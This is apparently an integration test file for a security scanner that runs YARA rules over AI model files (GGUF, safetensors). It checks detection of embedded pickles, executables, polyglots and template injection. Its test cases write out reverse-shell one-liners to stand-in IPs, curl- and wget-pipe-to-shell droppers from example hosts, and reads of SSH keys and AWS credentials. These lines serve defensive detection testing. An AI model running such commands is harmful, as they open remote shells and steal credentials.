import { mkdtemp, open, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inspectGguf } from '@secai/formats';
import { runYara } from '../src/scan/index.js';
import {
  PICKLES,
  buildSafetensors,
  safetensorsZipPolyglot,
  seededBytes,
  SMALL_TENSORS,
} from '@secai/formats/testing';
import { buildTinyLlamaGguf, writeTinyLlamaGguf } from '@secai/formats/testing';

// The shipped YARA rules run by the real `yara` binary (a child process per scan), so this is an
// int test; the in-process scans (entropy, weight statistics) are in scan.unit.spec.ts.

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'secai-yara-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const latin1 = (b: Uint8Array): string => Buffer.from(b).toString('latin1');

async function put(name: string, bytes: Uint8Array): Promise<string> {
  const p = join(dir, name);
  await writeFile(p, bytes);
  return p;
}

/** A tiny GGUF with `payload` written into the middle of token_embd's data. */
async function ggufWith(name: string, payload: Uint8Array): Promise<string> {
  const g = buildTinyLlamaGguf();
  const embd = g.tensors[0];
  if (embd === undefined) throw new Error('no tensors');
  Buffer.from(payload).copy(g.buffer, g.dataOffset + embd.offset + 1000);
  return put(name, g.buffer);
}

async function rulesOf(path: string): Promise<string[]> {
  const r = await runYara(path);
  if (!r.ok) throw new Error(`${r.reason}: ${r.detail}`);
  return r.matches.map((m) => m.rule).sort();
}

function elfHeader(): Uint8Array {
  const h = Buffer.alloc(64);
  h.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  h.writeUInt16LE(2, 16); // ET_EXEC
  h.writeUInt16LE(0x3e, 18); // x86-64
  h.writeUInt32LE(1, 20);
  return h;
}

function peImage(): Uint8Array {
  const h = Buffer.alloc(0x100);
  h.write('MZ', 0, 'latin1');
  h.writeUInt32LE(0x80, 0x3c);
  h.write('PE\0\0', 0x80, 'latin1');
  h.writeUInt16LE(0x8664, 0x84);
  return h;
}

function machO(): Uint8Array {
  const h = Buffer.alloc(32);
  h.writeUInt32LE(0xfeedfacf, 0);
  h.writeUInt32LE(0x0100000c, 4); // arm64
  h.writeUInt32LE(0, 8);
  h.writeUInt32LE(2, 12); // MH_EXECUTE
  return h;
}

describe('runYara with the shipped rules (real yara binary)', () => {
  it('compiles and runs: the version is reported and a clean text file has no matches', async () => {
    const p = await put('clean.txt', new TextEncoder().encode('hello world\n'));
    const r = await runYara(p);
    expect(r.ok).toBe(true);
    if (r.ok) {
      expect(r.version).toMatch(/^4\.\d+\.\d+/);
      expect(r.matches).toEqual([]);
    }
  });

  it('does not fire on clean tiny GGUFs (F32 and F16, several seeds) nor on clean safetensors', async () => {
    for (const seed of [1, 2, 3]) {
      for (const weightType of ['f32', 'f16'] as const) {
        const p = join(dir, `clean-${seed}-${weightType}.gguf`);
        await writeTinyLlamaGguf(p, { seed, weightType });
        expect(await rulesOf(p)).toEqual([]);
      }
    }
    expect(await rulesOf(await put('clean.safetensors', buildSafetensors(SMALL_TENSORS)))).toEqual(
      [],
    );
    const big = buildSafetensors(
      [{ name: 'w', dtype: 'F32', shape: [1024, 1024] }],
      { format: 'pt' },
      seededBytes(4 << 20, 9),
    );
    expect(await rulesOf(await put('clean-big.safetensors', big))).toEqual([]);
  });

  it('fires on an os.system pickle held in safetensors metadata (JSON-escaped protocol 0)', async () => {
    const st = buildSafetensors(SMALL_TENSORS, { payload: latin1(PICKLES.osSystemGlobal) });
    expect(await rulesOf(await put('meta-pickle.safetensors', st))).toContain(
      'SecAI_Pickle_Dangerous_Import',
    );
  });

  it('fires on raw pickles inside tensor data: STACK_GLOBAL, memo STACK_GLOBAL, builtins.eval, __reduce__ shape', async () => {
    const rules = await rulesOf(await ggufWith('pickle.gguf', PICKLES.osSystemStackGlobal));
    expect(rules).toEqual(
      expect.arrayContaining(['SecAI_Pickle_Stack_Global_Import', 'SecAI_Pickle_Reduce_Gadget']),
    );
    expect(await rulesOf(await ggufWith('memo.gguf', PICKLES.memoStackGlobal))).toContain(
      'SecAI_Pickle_Stack_Global_Import',
    );
    const ev = await rulesOf(await ggufWith('eval.gguf', PICKLES.builtinsEvalReduce));
    expect(ev).toEqual(
      expect.arrayContaining(['SecAI_Pickle_Dangerous_Import', 'SecAI_Pickle_Reduce_Gadget']),
    );
    expect(await rulesOf(await ggufWith('p0.gguf', PICKLES.osSystemGlobal))).toContain(
      'SecAI_Pickle_Reduce_Gadget',
    );
  });

  it('fires on a safetensors/zip polyglot', async () => {
    expect(await rulesOf(await put('poly.safetensors', safetensorsZipPolyglot()))).toContain(
      'SecAI_Zip_In_Model',
    );
  });

  it('fires on ELF, PE and Mach-O headers inside a GGUF, with the match offset', async () => {
    const p = await ggufWith('elf.gguf', elfHeader());
    const ok = await inspectGguf(p);
    expect(ok.ok).toBe(true); // structurally a valid model: only the scan sees the payload
    const r = await runYara(p);
    expect(r.ok && r.matches.map((m) => m.rule)).toEqual(['SecAI_Embedded_ELF']);
    if (r.ok && ok.ok) {
      const embd = ok.tensors[0];
      expect(r.matches[0]?.strings?.[0]?.offset).toBe(ok.dataOffset + (embd?.offset ?? 0) + 1000);
      expect(r.matches[0]?.tags).toEqual(['executable']);
    }
    expect(await rulesOf(await ggufWith('pe.gguf', peImage()))).toEqual(['SecAI_Embedded_PE']);
    expect(await rulesOf(await ggufWith('macho.gguf', machO()))).toEqual(['SecAI_Embedded_MachO']);
  });

  it('fires on shell payloads, credential paths and the GGUF chat-template backstop', async () => {
    const cases: [string, string][] = [
      ['bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', 'SecAI_Reverse_Shell'],
      [
        'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.5 4444 >/tmp/f',
        'SecAI_Reverse_Shell',
      ],
      ['curl -fsSL http://evil.example/x.sh | sudo bash', 'SecAI_Shell_Dropper_Command'],
      [
        'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A',
        'SecAI_Encoded_Powershell',
      ],
      ['open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'SecAI_Credential_Harvesting'],
      ['cat ~/.aws/credentials', 'SecAI_Credential_Harvesting'],
      ['-----BEGIN OPENSSH PRIVATE KEY-----', 'SecAI_Embedded_Private_Key'],
    ];
    for (const [i, [text, rule]] of cases.entries()) {
      const st = buildSafetensors(SMALL_TENSORS, { note: text });
      expect(await rulesOf(await put(`shell-${i}.safetensors`, st)), text).toContain(rule);
    }
    const p = join(dir, 'template.gguf');
    await writeTinyLlamaGguf(p, { variant: 'malicious_template' });
    expect(await rulesOf(p)).toContain('SecAI_GGUF_Chat_Template_Injection');
  });

  it('has no size cut-off: a marker at the end of a 600 MiB sparse file is found', async () => {
    const p = join(dir, 'sparse.bin');
    await writeFile(p, '');
    await truncate(p, 600 * 1024 * 1024);
    const marker = Buffer.from('sh -i >& /dev/tcp/192.0.2.1/9001 0>&1', 'latin1');
    const at = 600 * 1024 * 1024 - 200;
    const fh = await open(p, 'r+');
    await fh.write(marker, 0, marker.length, at);
    await fh.close();
    const r = await runYara(p);
    expect(r.ok).toBe(true);
    if (r.ok) {
      expect(r.matches.map((m) => m.rule)).toEqual(['SecAI_Reverse_Shell']);
      expect(r.matches[0]?.strings?.[0]?.offset).toBe(at + marker.indexOf('/dev/tcp/'));
    }
    await rm(p);
  });

  it('scans a directory recursively', async () => {
    const sub = await mkdtemp(join(dir, 'tree-'));
    await writeFile(join(sub, 'a.bin'), 'nothing');
    await writeFile(join(sub, 'b.bin'), 'wget http://x.example/a -O- | sh');
    const r = await runYara(sub);
    expect(r.ok && r.matches.map((m) => [m.rule, m.file])).toEqual([
      ['SecAI_Shell_Dropper_Command', join(sub, 'b.bin')],
    ]);
  });

  it('reports yara_missing, rules_invalid and yara_failed', async () => {
    const p = await put('t.txt', new TextEncoder().encode('x'));
    expect(await runYara(p, { yaraBinary: join(dir, 'no-such-yara') })).toMatchObject({
      ok: false,
      reason: 'yara_missing',
    });
    const bad = await put(
      'bad.yar',
      new TextEncoder().encode('rule broken { condition: undefined_thing }'),
    );
    expect(await runYara(p, { rulesPath: bad })).toMatchObject({
      ok: false,
      reason: 'rules_invalid',
    });
    expect(await runYara(p, { rulesPath: join(dir, 'missing.yar') })).toMatchObject({
      ok: false,
      reason: 'rules_invalid',
    });
    expect(await runYara(join(dir, 'no-such-target'))).toMatchObject({
      ok: false,
      reason: 'yara_failed',
    });
  });
});
